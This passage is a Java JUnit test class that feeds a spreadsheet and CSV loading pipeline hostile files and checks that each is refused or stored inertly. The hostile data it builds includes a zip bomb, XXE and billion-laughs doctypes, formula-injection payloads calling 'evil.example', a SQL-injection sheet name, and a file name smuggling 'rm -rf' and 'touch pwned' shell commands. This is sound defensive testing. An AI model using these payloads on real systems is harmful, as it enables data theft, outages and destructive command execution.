package netmarket.hostile;

import static netmarket.hostile.HostileFiles.POSTAL_HEADER;
import static netmarket.hostile.HostileFiles.billionLaughsDoctype;
import static netmarket.hostile.HostileFiles.error;
import static netmarket.hostile.HostileFiles.externalEntityDoctype;
import static netmarket.hostile.HostileFiles.formula;
import static netmarket.hostile.HostileFiles.number;
import static netmarket.hostile.HostileFiles.postalHeader;
import static netmarket.hostile.HostileFiles.postalRow;
import static netmarket.hostile.HostileFiles.postalWorkbook;
import static netmarket.hostile.HostileFiles.rawText;
import static netmarket.hostile.HostileFiles.row;
import static netmarket.hostile.HostileFiles.shared;
import static netmarket.hostile.HostileFiles.text;
import static netmarket.hostile.HostileFiles.textFormula;
import static netmarket.hostile.HostileFiles.worksheet;
import static netmarket.hostile.HostileFiles.worksheetWithProlog;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.math.BigDecimal;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import netmarket.hostile.HostileFiles.RawXlsx;
import netmarket.load.LoadOutcome;
import netmarket.load.StoreFixture;
import netmarket.normalize.CreditCode;
import netmarket.normalize.PersonalId;
import netmarket.samples.Workbooks;
import netmarket.source.SourceDefinition;
import netmarket.source.SourceDefinitions;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile input files, each generated here and loaded for real into a fresh store: what the
 * pipeline guarantees for each (RELIABILITY.md lists them). For every file: the outcome and the
 * reason as the code writes it; a failed file leaves no rows in any fact table (only its
 * meta.load row and its file-level meta.reject row); row counts reconcile; it finishes in bounded
 * time. The whole class runs with a 256 MB heap (surefire execution hostile-small-heap).
 */
@Timeout(value = 30, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
class HostileFilesTest {

    private static final String POSTAL = "postal_express";
    private static final String REGISTER = "samr_operator_register";
    private static final String SQL_SHEET = "x'); DROP TABLE meta.load; --";
    private static final String[] REGISTER_COLUMNS = {"序号", "统一社会信用代码/身份证号", "经营者名称", "所在平台", "所在地区", "成立日期",
        "注销日期", "经营状态", "联系电话"};

    @TempDir
    Path dir;

    StoreFixture store;
    Map<String, Long> before;

    @BeforeEach
    void openStore() throws SQLException {
        store = new StoreFixture(dir);
        before = store.tableCounts();
    }

    @AfterEach
    void closeStore() throws SQLException {
        store.close();
    }

    // ================================================================ XLSX packages and their XML

    @Test
    void anXlsxZipBombIsRefusedWithoutInflatingIt() throws Exception {
        long twoGigabytes = 2L << 30;
        Path file = HostileFiles.zipBomb(in("快递_炸弹.xlsx"), twoGigabytes);
        assertThat(Files.size(file)).as("a few MB on disk").isLessThan(5L << 20);

        long started = System.nanoTime();
        LoadOutcome outcome = load(file, POSTAL);
        long seconds = (System.nanoTime() - started) / 1_000_000_000L;

        assertFailedLeavingNoRows(outcome, "工作表「快递」无法读取: 疑似压缩炸弹：文件中的部件解压后远大于其压缩大小，已停止读取");
        assertThat(seconds).as("stopped early, not after inflating 2 GB").isLessThan(10);
    }

    @Test
    void anExternalEntityInTheSheetXmlIsNeverResolved() throws Exception {
        Path secret = Files.writeString(dir.resolve("secret.txt"), "CANARY-SHEET-4711");
        String sheet = worksheetWithProlog(externalEntityDoctype("worksheet", secret.toUri().toString()), postalHeader(1),
                row(2, rawText("A2", "&xxe;"), text("B2", "2024年"), number("C2", "28530"), number("D2", "16")));
        Path file = new RawXlsx().sheet("快递", sheet).write(in("快递_xxe.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "工作表「快递」无法读取", "The entity \"xxe\" was referenced, but not declared");
        assertThat(columnsContaining("CANARY-SHEET-4711")).isEmpty();
    }

    @Test
    void anExternalEntityInTheSharedStringsIsNeverResolved() throws Exception {
        Path secret = Files.writeString(dir.resolve("secret.txt"), "CANARY-SST-4711");
        String sst = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + externalEntityDoctype("sst", secret.toUri().toString())
                + "<sst xmlns=\"" + RawXlsx.MAIN + "\"><si><t>&xxe;</t></si></sst>";
        String sheet = worksheet(postalHeader(1), row(2, shared("A2", 0), text("B2", "2024年"), number("C2", "28530")));
        Path file = new RawXlsx().sheet("快递", sheet).sharedStrings(sst).write(in("快递_xxe_sst.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "共享字符串表（sharedStrings.xml）无法读取", "The entity \"xxe\" was referenced, but not declared");
        assertThat(columnsContaining("CANARY-SST-4711")).isEmpty();
    }

    @Test
    void anExternalDtdIsNeverFetched() throws Exception {
        try (ServerSocket server = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
            AtomicInteger connections = acceptInBackground(server);
            String url = "http://127.0.0.1:" + server.getLocalPort() + "/evil.dtd";
            String sheet = worksheetWithProlog("<!DOCTYPE worksheet SYSTEM \"" + url + "\">", postalHeader(1),
                    postalRow(2, "三明市", "2024年", "28530", "16"));
            Path file = new RawXlsx().sheet("快递", sheet).write(in("快递_dtd.xlsx"));

            LoadOutcome outcome = load(file, POSTAL);

            assertThat(connections.get()).as("connections made to the DTD's address").isZero();
            assertLoaded(outcome, 1, 0);
        }
    }

    @Test
    void billionLaughsInTheSheetXmlAreRefusedWithoutExpandingThem() throws Exception {
        String sheet = worksheetWithProlog(billionLaughsDoctype("worksheet"), postalHeader(1),
                row(2, rawText("A2", "&lol9;"), text("B2", "2024年"), number("C2", "28530")));
        Path file = new RawXlsx().sheet("快递", sheet).write(in("快递_lol.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "工作表「快递」无法读取", "The entity \"lol9\" was referenced, but not declared");
    }

    @Test
    void billionLaughsInTheSharedStringsAreRefusedWithoutExpandingThem() throws Exception {
        String sst = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + billionLaughsDoctype("sst")
                + "<sst xmlns=\"" + RawXlsx.MAIN + "\"><si><t>&lol9;</t></si></sst>";
        String sheet = worksheet(postalHeader(1), row(2, shared("A2", 0), text("B2", "2024年"), number("C2", "28530")));
        Path file = new RawXlsx().sheet("快递", sheet).sharedStrings(sst).write(in("快递_lol_sst.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "共享字符串表（sharedStrings.xml）无法读取", "The entity \"lol9\" was referenced, but not declared");
    }

    @Test
    void aDoctypeInTheWorkbookPartFailsTheFileAsUnreadableStructure() throws Exception {
        Path secret = Files.writeString(dir.resolve("secret.txt"), "CANARY-WORKBOOK-4711");
        String workbook = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + externalEntityDoctype("workbook", secret.toUri().toString())
                + "<workbook xmlns=\"" + RawXlsx.MAIN + "\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
                + "<sheets><sheet name=\"&xxe;\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>";
        Path file = new RawXlsx().sheet("快递", worksheet(postalHeader(1), postalRow(2, "三明市", "2024年", "28530", "16")))
                .replace("xl/workbook.xml", workbook).write(in("快递_xxe_workbook.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "XLSX 文件结构无法读取", "The entity \"xxe\" was referenced, but not declared");
        assertThat(columnsContaining("CANARY-WORKBOOK-4711")).isEmpty();
    }

    @Test
    void deeplyNestedXmlInTheSheetIsReadWithoutRecursionOrBlowUp() throws Exception {
        int depth = 1_000_000;
        String sheet = worksheet(postalHeader(1), postalRow(2, "三明市", "2024年", "28530", "16"),
                row(3, text("A3", "永安市"), text("B3", "2024年"), "<x>".repeat(depth) + "</x>".repeat(depth), number("C3", "1234.5")));
        Path file = new RawXlsx().uncompressed().sheet("快递", sheet).write(in("快递_深层嵌套.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertThat(outcome.status()).isEqualTo("loaded");
        assertThat(outcome.rowsLoaded()).isEqualTo(2);
        assertThat(store.count("SELECT count(*) FROM fact.metric_value WHERE region_code = '350481' AND value = 12345000")).isOne();
        assertReconciles();
    }

    @Test
    void aSharedStringIndexBeyondTheTableFailsTheFile() throws Exception {
        String sst = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><sst xmlns=\"" + RawXlsx.MAIN + "\"><si><t>三明市</t></si></sst>";
        String sheet = worksheet(postalHeader(1), row(2, shared("A2", 0), text("B2", "2024年"), number("C2", "28530")),
                row(3, shared("A3", 99), text("B3", "2024年"), number("C3", "1234.5")));
        Path file = new RawXlsx().sheet("快递", sheet).sharedStrings(sst).write(in("快递_索引越界.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "工作表「快递」第 3 行附近无法读取: 共享字符串索引越界: 99");
    }

    @Test
    void aMergedRangeBeyondColumnXfdFailsTheFileInsteadOfCrashingTheRun() throws Exception {
        String sheet = worksheet(postalHeader(1), postalRow(2, "三明市", "2024年", "28530", "16"))
                .replace("</sheetData>", "</sheetData><mergeCells count=\"1\"><mergeCell ref=\"A1:XFE2\"/></mergeCells>");
        Path file = new RawXlsx().sheet("快递", sheet).write(in("快递_合并越界.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "工作表「快递」无法读取", "单元格地址超出 Excel 范围: XFE2");
    }

    @Test
    void aPasswordProtectedXlsxFailsNamingThePassword() throws Exception {
        Workbooks content = postalWorkbook(Workbooks.xlsx("快递"), new Object[] {"三明市", "2024年", 28530, 16});
        Path file = HostileFiles.passwordProtected(content, in("快递_加密.xlsx"), "x");

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "文件有密码保护，无法读取；请提供未加密的文件");
    }

    @Test
    void anXlsRenamedXlsxLoadsByItsContent() throws Exception {
        Path file = postalWorkbook(Workbooks.xls("快递"), new Object[] {"三明市", "2024年", 28530, 16}, new Object[] {"永安市", "2024年", 1234.5, 9.1})
                .write(in("快递_其实是xls.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 2, 0);
        assertThat(store.count("SELECT count(*) FROM fact.metric_value")).isEqualTo(4);
    }

    @Test
    void anXlsxRenamedXlsLoadsByItsContent() throws Exception {
        Path file = postalWorkbook(Workbooks.xlsx("快递"), new Object[] {"三明市", "2024年", 28530, 16}, new Object[] {"永安市", "2024年", 1234.5, 9.1})
                .write(in("快递_其实是xlsx.xls"));

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 2, 0);
        assertThat(store.count("SELECT count(*) FROM fact.metric_value")).isEqualTo(4);
    }

    @Test
    void aTruncatedXlsxFailsAsUnreadable() throws Exception {
        Path good = postalWorkbook(Workbooks.xlsx("快递"), new Object[] {"三明市", "2024年", 28530, 16}).write(dir.resolve("good.xlsx"));
        byte[] bytes = Files.readAllBytes(good);
        Path file = HostileFiles.bytes(in("快递_截断.xlsx"), Arrays.copyOf(bytes, bytes.length / 2));

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "无法作为 XLSX 打开（文件损坏或不是 Excel 文件）");
    }

    @Test
    void anEmptyFileFailsAsZeroBytes() throws Exception {
        Path file = HostileFiles.bytes(in("快递_空.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "文件为空（0 字节）");
    }

    @Test
    void randomBytesFailAsTextInNoEncoding() throws Exception {
        byte[] noise = new byte[1 << 16];
        new Random(20250630L).nextBytes(noise);
        noise[0] = (byte) 0x80; // neither PK nor OLE2, and no GB18030 character starts with it
        Path file = HostileFiles.bytes(in("快递_乱码.xlsx"), noise);

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "第 1 行的字节不是 GB18030 编码");
    }

    @Test
    void aRowAtXlsxsLastRowIsReadAfterAFewRowsWithoutWalkingTheGap() throws Exception {
        String sheet = worksheet(postalHeader(1), postalRow(2, "三明市", "2024年", "28530", "16"),
                postalRow(3, "三明市", "2023年", "24600", "16.5"), postalRow(1_048_576, "永安市", "2024年", "1234.5", "9.1"));
        Path file = new RawXlsx().sheet("快递", sheet).write(in("快递_末行.xlsx"));

        long started = System.nanoTime();
        LoadOutcome outcome = load(file, POSTAL);

        assertThat((System.nanoTime() - started) / 1_000_000L).as("milliseconds").isLessThan(5_000);
        assertLoaded(outcome, 3, 0);
        assertThat(store.count("SELECT max(row_number) FROM fact.metric_value WHERE region_code = '350481'")).isEqualTo(1_048_576);
    }

    @Test
    void aCellInColumnXfdIsReadAndItsColumnKeepsItsHeader() throws Exception {
        String sheet = worksheet(
                row(1, text("A1", "地区"), text("B1", "时期"), text("C1", "快递业务量（万件）"), text("D1", "同比增长（%）"), text("XFD1", "备注")),
                row(2, text("A2", "三明市"), text("B2", "2024年"), number("C2", "28530"), number("D2", "16"), text("XFD2", "最后一列")));
        Path file = new RawXlsx().sheet("快递", sheet).write(in("快递_XFD.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 1, 0);
        assertThat(store.count("SELECT count(*) FROM fact.metric_value WHERE region_code = '350400'")).isEqualTo(2);
    }

    @Test
    void aCellBeyondColumnXfdFailsTheFileNamingTheAddress() throws Exception {
        String sheet = worksheet(postalHeader(1),
                row(2, text("A2", "三明市"), text("B2", "2024年"), number("C2", "28530"), text("XFE2", "越界")));
        Path file = new RawXlsx().sheet("快递", sheet).write(in("快递_XFE.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "工作表「快递」第 2 行附近无法读取: 单元格地址超出 Excel 范围: XFE2");
    }

    @Test
    void aTenMegabyteTextCellIsRejectedAsTooLongAndStoredClipped() throws Exception {
        int length = 10 << 20;
        String head = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"" + RawXlsx.MAIN + "\"><sheetData>"
                + row(1, text("A1", "网络交易经营者名录（导出日期：2025-06-30）"))
                + row(2, IntStream.range(0, REGISTER_COLUMNS.length)
                        .mapToObj(i -> text(column(i) + "2", REGISTER_COLUMNS[i])).toArray(String[]::new))
                + "<row r=\"3\">" + text("A3", "1") + text("B3", creditCode("91350400MA31ABCD1"))
                + "<c r=\"C3\" t=\"inlineStr\"><is><t>";
        String tail = "</t></is></c>" + text("D3", "淘宝") + text("E3", "三明市") + text("F3", "2020-01-01") + "</row>"
                + "</sheetData></worksheet>";
        Path file = new RawXlsx().uncompressed().sheet("名录", out -> {
            out.write(head.getBytes(StandardCharsets.UTF_8));
            byte[] letters = new byte[1 << 20];
            Arrays.fill(letters, (byte) 'A');
            for (int i = 0; i < length / letters.length; i++) {
                out.write(letters);
            }
            out.write(tail.getBytes(StandardCharsets.UTF_8));
        }).write(in("经营者名录_超长文本.xlsx"));

        LoadOutcome outcome = load(file, REGISTER);

        assertLoaded(outcome, 0, 1);
        assertThat(rejects()).singleElement().satisfies(r -> {
            assertThat(r).containsEntry("sheet_name", "名录").containsEntry("row_number", 3).containsEntry("column_name", "经营者名称");
            assertThat((String) r.get("reason")).isEqualTo("name: 文本过长（" + length + " 字符，上限 2000）");
            assertThat((String) r.get("raw_value")).hasSizeLessThan(300).endsWith("…（共" + length + "字符）");
        });
    }

    @Test
    void formulasAreNeverEvaluatedTheirCachedValuesAreLoaded() throws Exception {
        String sheet = worksheet(postalHeader(1),
                row(2, textFormula("A2", "HYPERLINK(\"http://evil.example/\",\"三明市\")", "三明市"), text("B2", "2024年"),
                        formula("C2", "1/0", "28530"), formula("D2", "WEBSERVICE(\"http://evil.example/\")", "16")));
        Path file = new RawXlsx().sheet("快递", sheet).write(in("快递_公式.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 1, 0);
        assertThat(store.rows("SELECT value_kind, value FROM fact.metric_value WHERE region_code = '350400' ORDER BY 1"))
                .extracting(r -> r.get("value_kind") + " " + ((BigDecimal) r.get("value")).stripTrailingZeros().toPlainString())
                .containsExactly("level 285300000", "official_growth_pct 16");
        assertThat(columnsContaining("evil.example")).as("formula text is never stored").isEmpty();
    }

    @Test
    void errorCellsInAValueColumnRejectTheirRowsNamingTheError() throws Exception {
        String sheet = worksheet(postalHeader(1), postalRow(2, "三明市", "2024年", "28530", "16"),
                row(3, text("A3", "永安市"), text("B3", "2024年"), error("C3", "C9/0", "#DIV/0!"), number("D3", "9.1")),
                row(4, text("A4", "三明市"), text("B4", "2023年"), number("C4", "24600"), error("D4", "#REF!/C3", "#REF!")));
        Path file = new RawXlsx().sheet("快递", sheet).write(in("快递_错误值.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 1, 2);
        assertThat(rejects()).extracting(r -> r.get("row_number") + " " + r.get("column_name") + " " + r.get("raw_value") + " " + r.get("reason"))
                .containsExactly("3 快递业务量（万件） #DIV/0! 快递业务量: 单元格为错误值 #DIV/0!",
                        "4 同比增长（%） #REF! 快递业务量: 单元格为错误值 #REF!");
    }

    @Test
    void aSheetNamedWithSqlQuotesIsSelectedByNameAndStoredVerbatim() throws Exception {
        Path file = postalWorkbook(Workbooks.xlsx(SQL_SHEET), new Object[] {"三明市", "2024年", 28530, 16}).write(in("快递_表名.xlsx"));
        SourceDefinition def = definitionWithSheet("[\"" + SQL_SHEET + "\"]");

        LoadOutcome outcome = store.load(file, "快递_表名.xlsx", def);

        assertLoaded(outcome, 1, 0);
        assertThat(store.rows("SELECT DISTINCT sheet_name FROM fact.metric_value")).singleElement()
                .satisfies(r -> assertThat(r).containsEntry("sheet_name", SQL_SHEET));
        assertThat(store.count("SELECT count(*) FROM meta.load")).isOne();
    }

    @Test
    void aSheetNamedWithSqlQuotesIsReadWhenAllSheetsAreWanted() throws Exception {
        Path file = postalWorkbook(Workbooks.xlsx(SQL_SHEET), new Object[] {"三明市", "2024年", 28530, 16}).write(in("快递_表名全部.xlsx"));
        SourceDefinition def = definitionWithSheet("[\"*\"]");

        LoadOutcome outcome = store.load(file, "快递_表名全部.xlsx", def);

        assertLoaded(outcome, 1, 0);
        assertThat(store.rows("SELECT DISTINCT sheet_name FROM fact.metric_value")).singleElement()
                .satisfies(r -> assertThat(r).containsEntry("sheet_name", SQL_SHEET));
        assertThat(store.count("SELECT count(*) FROM meta.load")).isOne();
    }

    @Test
    void aTitleOnlySheetWithoutAnyHeaderFailsSayingWhatWasLookedFor() throws Exception {
        Path file = Workbooks.xlsx("快递").row("2024年快递业务量统计表").write(in("快递_只有标题.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "快递_只有标题.xlsx「快递」 前 1 行内找不到表头（含“[地区]”的行）");
    }

    @Test
    void duplicateHeaderColumnsFailTheFileNamingBothColumns() throws Exception {
        Path file = Workbooks.xlsx("快递").row("地区", "时期", "快递业务量（万件）", "同比增长（%）", "快递业务量（万件）")
                .row("三明市", "2024年", 28530, 16, 28530).write(in("快递_重复列.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "快递_重复列.xlsx「快递」: 指标列「快递业务量」匹配到多列: [快递业务量（万件）（第3列）, 快递业务量（万件）（第5列）]");
    }

    @Test
    void aMissingRequiredHeaderColumnFailsTheFileShowingTheHeaderFound() throws Exception {
        Path file = Workbooks.xlsx("快递").row("地区", "快递业务量（万件）", "同比增长（%）").row("三明市", 28530, 16).write(in("快递_缺列.xlsx"));

        LoadOutcome outcome = load(file, POSTAL);

        assertFailedLeavingNoRows(outcome, "快递_缺列.xlsx「快递」: 缺少时期列「时期 或 统计期 或 期间」。表头为: [地区, 快递业务量（万件）, 同比增长（%）]");
    }

    @Test
    void datesIn1900And2200AreRejectedAsOutOfRange() throws Exception {
        Path file = register(
                new Object[] {1, creditCode("91350400MA31ABCD1"), "一号公司", "淘宝", "三明市", LocalDate.of(2020, 1, 1)},
                new Object[] {2, creditCode("91350400MA31ABCD2"), "二号公司", "京东", "三明市", LocalDate.of(1900, 1, 1)},
                new Object[] {3, creditCode("91350400MA31ABCD3"), "三号公司", "京东", "三明市", LocalDate.of(2200, 12, 31)})
                .write(in("经营者名录_日期.xlsx"));

        LoadOutcome outcome = load(file, REGISTER);

        assertLoaded(outcome, 1, 2);
        assertThat(rejects()).extracting(r -> r.get("row_number") + " " + r.get("column_name") + " " + r.get("reason"))
                .containsExactly("4 成立日期 established_on: 日期超出合理范围（1949-2100年）: 1900-01-01",
                        "5 成立日期 established_on: 日期超出合理范围（1949-2100年）: 2200-12-31");
    }

    @Test
    void aShareAbove100PercentIsRejected() throws Exception {
        Path file = Workbooks.xlsx("投诉").row("2024年12315网络消费投诉处理情况")
                .row("地区", "调解成功率", "满意度").row(null, "（%）", "（%）")
                .row("三明市", 98.5, 101.2).row("永安市", 95, 99.1)
                .write(in("12315_占比.xlsx"));

        LoadOutcome outcome = load(file, "samr_complaints_12315");

        assertLoaded(outcome, 1, 1);
        assertThat(rejects()).singleElement().satisfies(r -> assertThat(r)
                .containsEntry("row_number", 4).containsEntry("column_name", "满意度/（%）").containsEntry("raw_value", "101.2")
                .containsEntry("reason", "消费者满意度: 占比应在0%到100%之间，实为 101.2%"));
    }

    @Test
    void aNegativeCountIsRejected() throws Exception {
        Path file = HostileFiles.textFile(in("快递_负数.csv"), POSTAL_HEADER + "\n三明市,2024年,-100,16\n永安市,2024年,1234.5,9.1\n",
                StandardCharsets.UTF_8);

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 1, 1);
        assertThat(rejects()).singleElement().satisfies(r -> assertThat(r)
                .containsEntry("row_number", 2).containsEntry("raw_value", "-100")
                .containsEntry("reason", "快递业务量: 数量或金额不能为负数: -100"));
    }

    @Test
    void aNumberTooLargeForTheStoreIsRejectedInsteadOfFailingTheRun() throws Exception {
        Path file = HostileFiles.textFile(in("快递_超大数.csv"), POSTAL_HEADER + "\n三明市,2024年,1e30,16\n永安市,2024年,1234.5,1e40\n东营区,2024年,100,5\n",
                StandardCharsets.UTF_8);

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 1, 2);
        assertThat(rejects()).extracting(r -> r.get("row_number") + " " + r.get("column_name") + " " + r.get("raw_value") + " " + r.get("reason"))
                .containsExactly("2 快递业务量（万件） 1e30 value: 数值超出可存储范围（整数部分最多 32 位）",
                        "3 同比增长（%） 1e40 value: 数值超出可存储范围（整数部分最多 32 位）");
    }

    @Test
    void anExpertScoreWithMoreDecimalsThanItsColumnIsRejectedNotRounded() throws Exception {
        Path file = expertSheet(new Object[] {"全国", 12, 1, "0.333", "专家"}, new Object[] {"全国", 12, 2, "1.5", "专家"});

        LoadOutcome outcome = load(file, "expert_assessment");

        assertLoaded(outcome, 1, 1);
        assertThat(rejects()).singleElement().satisfies(r -> assertThat(r)
                .containsEntry("row_number", 3).containsEntry("column_name", "points").containsEntry("raw_value", "0.333")
                .containsEntry("reason", "points: 小数位过多（最多 2 位），不能不经说明地舍入"));
    }

    @Test
    void anIntegerTooLargeForItsColumnIsRejectedInsteadOfFailingTheRun() throws Exception {
        Path file = expertSheet(new Object[] {"全国", "99999999999", 1, "2", "专家"}, new Object[] {"全国", "1e30", 1, "2", "专家"},
                new Object[] {"全国", 12, 2, "1.5", "专家"});

        LoadOutcome outcome = load(file, "expert_assessment");

        assertLoaded(outcome, 1, 2);
        assertThat(rejects()).extracting(r -> r.get("row_number") + " " + r.get("column_name") + " " + r.get("raw_value") + " " + r.get("reason"))
                .containsExactly("3 indicator_no 99999999999 indicator_no: 数值超出可存储范围（最大 2147483647）",
                        "4 指标编号 1e30 indicator_no: 数值过大: 1e30");
    }

    @Test
    void aFormulaInjectionRegionIsRejectedAsUnknownAndKeptAsRawTextOnlyInTheRejects() throws Exception {
        String hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"三明市\")";
        Path file = HostileFiles.textFile(in("快递_公式注入.csv"),
                POSTAL_HEADER + "\n\"" + hyperlink.replace("\"", "\"\"") + "\",2024年,28530,16\n永安市,2024年,1234.5,9.1\n",
                StandardCharsets.UTF_8);

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 1, 1);
        assertThat(rejects()).singleElement().satisfies(r -> {
            assertThat(r).containsEntry("row_number", 2).containsEntry("column_name", "地区").containsEntry("raw_value", hyperlink);
            assertThat((String) r.get("reason")).startsWith("未知地区「=HYPERLINK(").endsWith("请在 jobs/reference/regions.csv 中登记");
        });
        assertThat(columnsContaining("HYPERLINK")).containsOnly("meta.reject.raw_value", "meta.reject.reason");
    }

    @Test
    void anInvalidPersonalIdAndPhoneInARejectedRowAreStoredOnlyMasked() throws Exception {
        String badId = personalIdWithWrongCheck("35040219900307123");
        String badPhone = "1380013800O"; // letter O typed for a zero
        Path file = register(
                new Object[] {1, creditCode("91350400MA31ABCD1"), "一号公司", "淘宝", "三明市", "2020-01-01", null, "存续", "13800138000"},
                new Object[] {2, badId, "张三", "抖音", "三明市", "2021-05-01", null, "存续", badPhone})
                .write(in("经营者名录_个人信息.xlsx"));

        LoadOutcome outcome = load(file, REGISTER);

        assertLoaded(outcome, 1, 1);
        assertThat(rejects()).extracting(r -> r.get("row_number") + " " + r.get("column_name") + " " + r.get("raw_value") + " " + r.get("reason"))
                .containsExactlyInAnyOrder(
                        "4 统一社会信用代码/身份证号 3504**********123" + badId.charAt(17) + " operator_id: 身份证号码校验位错误（也不是有效的统一社会信用代码）",
                        "4 联系电话 138****800O phone: 电话号码格式错误");
        assertThat(columnsContaining(badId)).isEmpty();
        assertThat(columnsContaining(badPhone)).isEmpty();
        assertThat(columnsContaining("13800138000")).as("the valid phone of the loaded row").isEmpty();
    }

    @Test
    void personalIdentifiersOfARowRejectedForAnotherReasonAreNotStoredAtAll() throws Exception {
        String first17 = "35040219900307123";
        String id = first17 + PersonalId.checkCharacter(first17);
        Path file = register(new Object[] {1, id, "张三", "抖音", "火星市", "2021-05-01", null, "存续", "13912345678"})
                .write(in("经营者名录_未知地区.xlsx"));

        LoadOutcome outcome = load(file, REGISTER);

        assertLoaded(outcome, 0, 1);
        assertThat(rejects()).singleElement().satisfies(r -> assertThat(r).containsEntry("column_name", "所在地区")
                .containsEntry("reason", "region_code: 未知地区「火星市」，请在 jobs/reference/regions.csv 中登记"));
        assertThat(columnsContaining(id)).isEmpty();
        assertThat(columnsContaining("13912345678")).isEmpty();
    }

    @Test
    void aFileNameWithPathTraversalAndShellMetacharactersIsStoredVerbatimAsData() throws Exception {
        String name = "../../$(rm -rf x);|&`touch pwned`'\"\n快递.csv";
        Path inbox = Files.createDirectories(dir.resolve("inbox"));
        Path file = HostileFiles.textFile(inbox.resolve("upload-1.csv"), POSTAL_HEADER + "\n三明市,2024年,28530,16\n火星市,2024年,1,1\n",
                StandardCharsets.UTF_8);
        Files.writeString(dir.resolve("x"), "must survive");
        List<Path> filesBefore = listing(dir);

        LoadOutcome outcome = store.load(file, name, store.definition(POSTAL));

        assertLoaded(outcome, 1, 1);
        assertThat(store.rows("SELECT file_name FROM meta.load")).singleElement().satisfies(r -> assertThat(r).containsEntry("file_name", name));
        assertThat(store.rows("SELECT DISTINCT file_name FROM fact.metric_value UNION SELECT file_name FROM meta.reject"))
                .singleElement().satisfies(r -> assertThat(r).containsEntry("file_name", name));
        assertThat(listing(dir)).as("no file created, moved or removed").isEqualTo(filesBefore);
        assertThat(Path.of("pwned")).doesNotExist();
    }

    @Test
    void theSameContentUnderASecondNameIsAlreadyLoaded() throws Exception {
        String content = POSTAL_HEADER + "\n三明市,2024年,28530,16\n";
        Path first = HostileFiles.textFile(in("快递_6月.csv"), content, StandardCharsets.UTF_8);
        Path second = HostileFiles.textFile(in("快递_6月_重发.csv"), content, StandardCharsets.UTF_8);
        assertLoaded(load(first, POSTAL), 1, 0);
        Map<String, Long> afterFirst = store.tableCounts();

        LoadOutcome again = load(second, POSTAL);

        assertThat(again.status()).isEqualTo("already_loaded");
        assertThat(again.message()).contains("快递_6月.csv", "未重复加载");
        assertThat(store.tableCounts()).isEqualTo(afterFirst);
        assertReconciles();
    }

    @Test
    void aHeaderWithoutDataRowsLoadsNothingAndReconciles() throws Exception {
        Path file = HostileFiles.textFile(in("快递_仅表头.csv"), POSTAL_HEADER + "\n", StandardCharsets.UTF_8);

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 0, 0);
        assertThat(outcome.rowsRead()).isOne();
        assertThat(outcome.skippedByKind()).containsExactly(Map.entry("header", 1L));
    }

    // ================================================================ CSV and encodings

    @Test
    void nulBytesInACsvRejectTheRowsThatHoldThem() throws Exception {
        Path file = HostileFiles.textFile(in("快递_NUL.csv"),
                POSTAL_HEADER + "\n三明\0市,2024年,28530,16\n永安市,2024年,12\0.5,9.1\n三明市,2023年,24600,16.5\n", StandardCharsets.UTF_8);

        LoadOutcome outcome = load(file, POSTAL);

        assertLoaded(outcome, 1, 2);
        assertThat(rejects()).extracting(r -> r.get("row_number") + " " + r.get("reason"))
                .containsExactly("2 未知地区「三明\0市」，请在 jobs/reference/regions.csv 中登记", "3 快递业务量: 不是数字: 12\0.5");
    }

    @Test
    void aRowWithTooFewCellsLoadsWhatItHasAndMissingCellsAreNotZero() throws Exception {
